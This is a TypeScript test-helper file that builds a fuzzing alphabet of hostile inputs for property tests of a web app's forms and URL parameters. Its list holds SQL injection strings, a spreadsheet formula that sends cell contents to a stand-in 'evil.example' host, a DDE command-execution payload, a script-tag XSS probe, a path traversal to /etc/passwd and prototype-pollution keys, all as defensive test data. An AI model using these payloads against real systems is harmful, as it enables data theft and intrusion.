// The hostile alphabet of the property tests: what a careless or malicious client may send in a
// form field or a URL parameter. Shared by the action tests, the parser tests and the HTTP test.
import fc from 'fast-check';

/** Fixed seed: a failure reproduces; CI runs about 1,000 cases per property, a local run fewer. */
export const SEED = 20_260_801;
export const RUNS = process.env.CI ? 1000 : 200;

/** One megabyte, built once: an option of the alphabet, never generated per run. */
export const ONE_MEGABYTE = 'x'.repeat(1 << 20);

/** Just below and above every length limit of the schemas (80 … 20,000), and one that only trimming brings under 200. */
const AT_LIMITS = [80, 100, 200, 254, 2000, 20_000].flatMap((max) => ['ä'.repeat(max), 'ä'.repeat(max + 1)]);

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  ' \t\n ',
  '\u0000',
  'Müller\u0000GmbH',
  '😀🎉 👩‍👩‍👧 🇩🇪',
  'مرحبا بالعالم',
  'שלום \u202Eevil.exe\u202C',
  '\u202E1234',
  '\uFEFF7',
  '-1',
  '0',
  '-0',
  '1.5',
  '007',
  '+5',
  ' 12 ',
  '0x10',
  '1e3',
  String(2 ** 31),
  String(2 ** 53 - 1),
  String(2 ** 53),
  '9007199254740993',
  '1e309',
  '-1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  'false',
  'on',
  'none',
  'me',
  '[]',
  '{}',
  '[object Object]',
  "'; drop table tickets; --",
  '1 OR 1=1',
  "x' OR '1'='1",
  '%',
  '_',
  '\\',
  // Formula payloads are text like any other: stored as typed, neutralised only in Excel exports (SPEC section 10).
  '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  ...AT_LIMITS,
  ` ${'x'.repeat(200)} `,
  ONE_MEGABYTE,
];

/** Field and parameter names a client may add: unknown, inherited from Object, or Next's own. */
export const HOSTILE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '$ACTION_ID_1',
  '$ACTION_REF_1',
  '',
  'a b',
  'Straße',
  'id',
  'version',
  'page',
];

/** Groups of ids, each drawn as often as the others: e.g. existing ids of every kind, archived entries, unknown ids. */
export type IdGroups = readonly (readonly string[])[];

/** A hostile string: the fixed alphabet, ids of the groups, or generated text and numbers. */
export function hostileString(idGroups: IdGroups = []): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    ...idGroups.filter((ids) => ids.length > 0).map((ids) => ({ weight: 2, arbitrary: fc.constantFrom(...ids) })),
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    // Any UTF-16 code units: control characters, lone surrogates, private use.
    {
      weight: 1,
      arbitrary: fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((units) => String.fromCharCode(...units)),
    },
    { weight: 1, arbitrary: fc.integer().map(String) },
    { weight: 1, arbitrary: fc.double().map(String) },
  );
}

/**
 * What a request can carry: UTF-8 has no lone surrogates, so a browser, FormData and URL decoding
 * turn them into U+FFFD before any parser sees them.
 */
export const wellFormed = (text: string) =>
  text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

/** The unknown ids every test mixes in: absent, beyond 32 bit, beyond 2^53. */
export const UNKNOWN_IDS = ['999999', '2147483648', String(Number.MAX_SAFE_INTEGER), '9007199254740993'];

/** A URL query string's parameters: known names with hostile values, unknown and repeated names. */
export function hostileQuery(knownNames: readonly string[], idGroups: IdGroups = []): fc.Arbitrary<[string, string][]> {
  const name = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...knownNames) },
    { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_KEYS) },
  );
  return fc.array(fc.tuple(name, hostileString([...idGroups, UNKNOWN_IDS]).map(wellFormed)), { maxLength: 8 });
}
